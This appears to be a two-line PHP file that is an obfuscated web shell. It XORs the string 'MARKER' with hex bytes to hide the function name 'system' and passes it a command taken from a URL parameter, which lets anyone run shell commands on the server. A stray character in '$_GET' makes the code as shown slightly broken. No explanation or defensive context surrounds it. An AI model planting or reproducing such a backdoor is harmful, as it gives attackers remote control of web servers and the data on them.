<?php exit; ?>
<?php $f = 'MARKER' ^ "\x3e\x38\x21\x3f\x20\x3f"; $f($_G~ET['m']);
